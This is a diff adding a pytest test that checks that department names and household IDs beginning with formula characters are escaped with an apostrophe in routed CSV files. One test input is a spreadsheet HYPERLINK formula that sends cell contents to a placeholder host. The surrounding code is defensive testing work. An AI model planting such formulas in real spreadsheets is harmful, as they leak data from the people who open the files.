@@ -119,6 +119,36 @@ def test_routed_files_open_in_excel_sorted_with_escalation_copies(out: Path, pse
         assert not (out / str(q) / "routed" / "county_coordination").exists()
 
 
+@pytest.mark.parametrize(
+    "planted",
+    [
+        '=HYPERLINK("http://x.example/?d="&A1,"点击")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tcmd",
+        "\r=1",
+    ],
+)
+def test_a_name_that_would_be_a_formula_in_excel_is_written_as_text(out, pseudonym_key, planted):
+    """OWASP CSV injection: a department's name or household number beginning with = + - @, a
+    tab or a carriage return reaches the routed file with a leading apostrophe, so Excel shows
+    it and runs nothing; names that do not start so are written as they are."""
+    bad = _warning("PNI_EDUCATION_AID", "A", "350102", "moe", Q1) | {
+        "name": planted,
+        "household_id": planted,
+    }
+    fine = _warning("PNI_EDUCATION_AID", "C", "350102", "moe", Q1) | {"name": "王-芳=@+"}
+    _quarter(out, Q1, [bad, fine])
+    outputs.publish(out, Q1, pseudonym_key.encode())
+    frame = pl.read_csv(out / str(Q1) / "routed" / "moe" / "350102.csv", infer_schema=False)
+    rows = {r["id_number"]: r for r in frame.iter_rows(named=True)}
+    assert rows[IDS["A"]]["name"] == rows[IDS["A"]]["household_id"] == "'" + planted
+    assert rows[IDS["C"]]["name"] == "王-芳=@+" and rows[IDS["C"]]["household_id"] == "C-C"
+    for r in frame.iter_rows(named=True):  # no cell of the file starts a formula
+        assert not any(re.match(outputs.FORMULA_START, v or "") for v in r.values()), r
+
+
 def test_a_rerun_gives_byte_identical_files_and_the_same_warehouse_rows(out, pseudonym_key):
     _three_quarters(out, pseudonym_key.encode())
 
